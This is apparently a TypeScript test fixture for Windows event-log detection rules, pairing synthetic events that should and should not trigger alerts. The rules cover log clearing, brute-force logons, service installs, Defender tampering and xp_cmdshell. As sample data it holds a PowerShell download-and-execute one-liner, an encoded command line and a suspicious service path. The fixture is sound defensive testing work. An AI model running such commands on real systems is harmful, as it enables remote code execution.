import type { Case } from './case.ts';
import { DEFENDER, SECURITY, SYSMON, at, events, many } from './rows.ts';

const LOG = 'Microsoft-Windows-Eventlog';
const RDP_CORE = 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS';
const SERVICES = 'Service Control Manager';
const attacker = '203.0.113.9';
const logon = (id: number, second: number, user: string, IpAddress = attacker, LogonType = '3') => ({
  id,
  second,
  failed: id !== 4624,
  data: { TargetUserName: user, IpAddress, LogonType },
});
/** On that day. */
const rights = (day: number, user: string) => ({
  id: 4672,
  second: day * 86_400,
  data: { SubjectUserName: user },
});
const started = (parent: string, image: string, CommandLine = '') => ({
  id: 1,
  provider: SYSMON,
  data: { Image: image, CommandLine, ParentImage: parent },
});
const IIS = String.raw`C:\Windows\System32\inetsrv\w3wp.exe`;
const SHELL = String.raw`C:\Windows\System32\cmd.exe`;

export const windowsCases: readonly Case[] = [
  {
    rule: 'windows-log-cleared',
    about: 'WEB01',
    rows: 2,
    speaks: events({ id: 1102, provider: LOG }, { id: 104, provider: LOG }),
    silent: events({ id: 1102, provider: 'Another' }, { id: 105, provider: LOG }),
  },
  {
    rule: 'windows-log-stopped',
    about: 'WEB01',
    rows: 2,
    speaks: events(
      { id: 1100, provider: LOG },
      { id: 7036, provider: SERVICES, data: { param1: 'Windows Event Log', param2: 'stopped' } },
    ),
    silent: events(
      { id: 7036, provider: SERVICES, data: { param1: 'Windows Event Log', param2: 'running' } },
      { id: 7036, provider: SERVICES, data: { param1: 'Spooler', param2: 'stopped' } },
    ),
  },
  {
    rule: 'windows-audit-policy',
    about: 'WEB01',
    rows: 1,
    speaks: events({ id: 4719 }),
    silent: events({ id: 4907 }),
  },
  {
    rule: 'windows-account-created',
    about: 'helper$',
    rows: 1,
    speaks: events({ id: 4720, data: { TargetUserName: 'helper$', SubjectUserName: 'admin' } }),
    silent: events({ id: 4726, data: { TargetUserName: 'helper$' } }),
  },
  {
    rule: 'windows-admin-group',
    about: 'Administratoren',
    rows: 1,
    speaks: events({ id: 4732, data: { TargetUserName: 'Administratoren', TargetSid: 'S-1-5-32-544' } }),
    silent: events({ id: 4732, data: { TargetUserName: 'Users', TargetSid: 'S-1-5-32-545' } }),
  },
  {
    rule: 'windows-password-reset',
    about: 'owner',
    rows: 1,
    speaks: events({ id: 4724, data: { TargetUserName: 'owner' } }),
    silent: events({ id: 4723, data: { TargetUserName: 'owner' } }),
  },
  {
    rule: 'windows-service-suspicious',
    about: '%COMSPEC% /c echo x > \\\\.\\pipe\\x',
    rows: 1,
    speaks: events({
      id: 7045,
      provider: SERVICES,
      data: { ServiceName: 'x', ImagePath: '%COMSPEC% /c echo x > \\\\.\\pipe\\x' },
    }),
    silent: events({
      id: 7045,
      provider: SERVICES,
      data: { ServiceName: 'cmd', ImagePath: String.raw`"C:\Program Files\Backup\agent.exe" /service` },
    }),
  },
  {
    rule: 'windows-service-installed',
    about: 'WEB01',
    rows: 1,
    speaks: events({ id: 4697, data: { ServiceFileName: String.raw`C:\a.exe` } }),
    silent: events({ id: 7036, provider: SERVICES }),
  },
  {
    rule: 'windows-task-short-lived',
    about: String.raw`\CYAlyNSS`,
    rows: 2,
    speaks: events(
      { id: 4698, data: { TaskName: String.raw`\CYAlyNSS` } },
      { id: 4699, second: 5, data: { TaskName: String.raw`\CYAlyNSS` } },
    ),
    silent: events(
      { id: 4698, data: { TaskName: String.raw`\A` } },
      { id: 4699, second: 5, data: { TaskName: String.raw`\B` } },
      { id: 4699, second: 900, data: { TaskName: String.raw`\A` } },
    ),
  },
  {
    rule: 'windows-task',
    about: 'WEB01',
    rows: 1,
    speaks: events({ id: 4702, data: { TaskName: String.raw`\A` } }),
    silent: events({ id: 4699, data: { TaskName: String.raw`\A` } }),
  },
  {
    rule: 'windows-logon-failures',
    about: attacker,
    rows: 10,
    speaks: events(many(10, (i) => logon(4625, i * 10, 'owner'))),
    silent: events(many(20, (i) => logon(4625, i * 60, 'owner'))),
  },
  {
    rule: 'windows-logon-spraying',
    about: attacker,
    rows: 5,
    speaks: events(many(5, (i) => logon(4625, i * 60, `user${i}`))),
    silent: events(many(9, (i) => logon(4625, i * 60, `user${i % 4}`))),
  },
  {
    rule: 'windows-failed-then-success',
    about: attacker,
    rows: 11,
    speaks: events(
      many(10, (i) => logon(4625, i * 100, `user${i}`)),
      logon(4624, 1200, 'owner'),
    ),
    // The success came first; or it came from elsewhere.
    silent: events(
      logon(4624, 0, 'owner'),
      many(10, (i) => logon(4625, 10 + i * 100, `user${i}`)),
      logon(4624, 1200, 'owner', '198.51.100.1'),
    ),
  },
  {
    rule: 'windows-account-failed-then-success',
    about: 'owner',
    rows: 11,
    speaks: events(
      many(10, (i) => logon(4625, i * 100, 'owner', `203.0.113.${i}`)),
      logon(4624, 1200, 'owner', '198.51.100.1'),
    ),
    silent: events(
      many(10, (i) => logon(4625, i * 100, 'owner', `203.0.113.${i}`)),
      logon(4624, 9000, 'owner', '198.51.100.1'),
    ),
  },
  {
    rule: 'windows-sql-logon-failures',
    about: 'WEB01',
    rows: 5,
    speaks: events(many(5, (i) => ({ id: 18456, provider: 'MSSQL$SHOP', second: i, values: ['sa'] }))),
    silent: events(many(5, (i) => ({ id: 18454, provider: 'MSSQL$SHOP', second: i, values: ['sa'] }))),
  },
  {
    rule: 'windows-remote-desktop-outside',
    about: attacker,
    rows: 1,
    speaks: events(logon(4624, 0, 'owner', attacker, '10')),
    silent: events(logon(4624, 0, 'owner', '192.168.1.4', '10'), logon(4625, 0, 'owner', attacker, '10')),
  },
  {
    rule: 'windows-remote-desktop-tunnel',
    about: 'WEB01',
    rows: 1,
    speaks: events(logon(4624, 0, 'owner', '127.0.0.1', '10')),
    silent: events(logon(4624, 0, 'owner', '127.0.0.1', '2'), logon(4624, 0, 'owner', '10.0.0.1', '10')),
  },
  {
    rule: 'windows-explicit-credentials',
    about: 'owner',
    rows: 1,
    speaks: events({ id: 4648, data: { TargetUserName: 'owner', ProcessName: IIS } }),
    silent: events({
      id: 4648,
      data: { TargetUserName: 'owner', ProcessName: String.raw`C:\Windows\lsass.exe` },
    }),
  },
  {
    rule: 'windows-server-starts-shell',
    about: 'WEB01',
    rows: 2,
    speaks: events(started(IIS, SHELL), {
      id: 4688,
      data: {
        NewProcessName: SHELL,
        ParentProcessName: String.raw`D:\ColdFusion2021\cfusion\bin\coldfusion.exe`,
      },
    }),
    silent: events(started(SHELL, IIS), started(IIS, String.raw`C:\Windows\WerFault.exe`), {
      id: 4688,
      data: { NewProcessName: SHELL, ParentProcessName: String.raw`C:\Windows\explorer.exe` },
    }),
  },
  {
    rule: 'windows-server-connects',
    about: '127.0.0.1',
    rows: 1,
    speaks: events({ id: 3, provider: SYSMON, data: { Image: IIS, DestinationIp: '127.0.0.1' } }),
    silent: events({ id: 3, provider: SYSMON, data: { Image: SHELL, DestinationIp: '127.0.0.1' } }),
  },
  {
    rule: 'windows-powershell',
    about: 'WEB01',
    rows: 2,
    speaks: events(
      {
        id: 4104,
        provider: 'Microsoft-Windows-PowerShell',
        data: { ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" },
      },
      started(SHELL, String.raw`C:\powershell.exe`, `powershell.exe -enc ${'QWxs'.repeat(12)}`),
    ),
    silent: events(
      {
        id: 4104,
        provider: 'Microsoft-Windows-PowerShell',
        data: { ScriptBlockText: 'Get-Service | Sort Name' },
      },
      started(SHELL, String.raw`C:\powershell.exe`, 'powershell.exe -Encoding UTF8 -File backup.ps1'),
    ),
  },
  {
    rule: 'windows-audit-object',
    about: String.raw`C:\Temp\x.exe`,
    rows: 1,
    speaks: events({ id: 4907, data: { ProcessName: String.raw`C:\Temp\x.exe` } }),
    silent: events({
      id: 4907,
      data: { ProcessName: String.raw`C:\Windows\servicing\TrustedInstaller.exe` },
    }),
  },
  {
    rule: 'windows-account-enabled',
    about: 'Guest',
    rows: 1,
    speaks: events({ id: 4722, data: { TargetUserName: 'Guest', SubjectUserName: 'web' } }),
    silent: events({ id: 4725, data: { TargetUserName: 'Guest', SubjectUserName: 'web' } }),
  },
  {
    rule: 'windows-account-weakened',
    about: 'Guest',
    rows: 3,
    speaks: events(
      ['\n\t\t%%2082', '\n\t\t%%2048\n\t\t%%2089', '%%2096'].map((UserAccountControl) => ({
        id: 4738,
        data: { TargetUserName: 'Guest', UserAccountControl },
      })),
    ),
    // The same switched off, and what every new account says.
    silent: events(
      ['-', '%%2050', '%%2057', '%%2048 %%2084', '%%20820'].map((UserAccountControl) => ({
        id: 4738,
        data: { TargetUserName: 'Guest', UserAccountControl },
      })),
    ),
  },
  {
    rule: 'windows-logon-other-credentials',
    about: 'web',
    rows: 1,
    speaks: events(logon(4624, 0, 'web', '::1', '9')),
    silent: events(logon(4624, 0, 'web', '::1', '3'), { ...logon(4625, 0, 'web', '::1', '9') }),
  },
  {
    rule: 'windows-privileges-new',
    about: 'guest2',
    rows: 2,
    speaks: events(
      many(5, (i) => rights(i, 'Administrator')),
      rights(4, 'guest2'),
      rights(5, 'guest2'),
    ),
    // In a log of two days nobody knows; computers and sessions are new all the time.
    silent: events(
      many(5, (i) => rights(i, 'Administrator')),
      rights(2, 'guest2'),
      rights(4, 'WEB02$'),
      rights(4, 'DWM-7'),
      rights(4, 'UMFD-7'),
      { id: 4624, second: 4 * 86_400, data: { TargetUserName: 'guest3' } },
    ),
  },
  {
    rule: 'windows-logon-failures',
    about: attacker,
    rows: 10,
    speaks: events(
      many(10, (i) => ({ id: 140, provider: RDP_CORE, second: i, data: { IPString: attacker } })),
    ),
    silent: events(
      many(10, (i) => ({ id: 131, provider: RDP_CORE, second: i, data: { IPString: attacker } })),
    ),
  },
  {
    rule: 'windows-xp-cmdshell',
    about: 'WEB01',
    rows: 1,
    speaks: events({ id: 15457, provider: 'MSSQLSERVER', values: ['xp_cmdshell', '0', '1'] }),
    silent: events({ id: 15457, provider: 'MSSQLSERVER', values: ['show advanced options', '0', '1'] }),
  },
  {
    rule: 'windows-clock-set',
    about: 'WEB01',
    rows: 1,
    speaks: events({ id: 4616, data: { PreviousTime: at(0), NewTime: at(-7200) } }),
    silent: events({ id: 4616, data: { PreviousTime: at(0), NewTime: at(30) } }),
  },
  {
    rule: 'antivirus-found',
    about: 'Backdoor:ASP/Ace.T',
    rows: 1,
    speaks: events({ id: 1116, provider: DEFENDER, data: { 'Threat Name': 'Backdoor:ASP/Ace.T' } }),
    silent: events({ id: 1116, provider: SECURITY, data: { 'Threat Name': 'Backdoor:ASP/Ace.T' } }),
  },
  {
    rule: 'antivirus-not-removed',
    about: 'Backdoor:ASP/Ace.T',
    rows: 1,
    speaks: events({ id: 1119, provider: DEFENDER, data: { 'Threat Name': 'Backdoor:ASP/Ace.T' } }),
    silent: events({ id: 1117, provider: DEFENDER, data: { 'Threat Name': 'Backdoor:ASP/Ace.T' } }),
  },
  {
    rule: 'antivirus-off',
    about: 'WEB01',
    rows: 1,
    speaks: events({ id: 5001, provider: DEFENDER }),
    silent: events({ id: 5000, provider: DEFENDER }),
  },
  {
    rule: 'antivirus-exclusion',
    about: 'WEB01',
    rows: 2,
    speaks: events(
      {
        id: 5007,
        provider: DEFENDER,
        data: {
          'New Value': String.raw`HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\x = 0x0`,
        },
      },
      { id: 1013, provider: DEFENDER },
    ),
    silent: events({ id: 5007, provider: DEFENDER, data: { 'New Value': 'SpyNetReporting = 0x1' } }),
  },
  {
    rule: 'antivirus-old',
    about: 'WEB01',
    rows: 5,
    speaks: events(many(5, (i) => ({ id: 2001, provider: DEFENDER, second: i * 30_000 }))),
    silent: events(many(5, (i) => ({ id: 2001, provider: DEFENDER, second: i * 300_000 }))),
  },
];
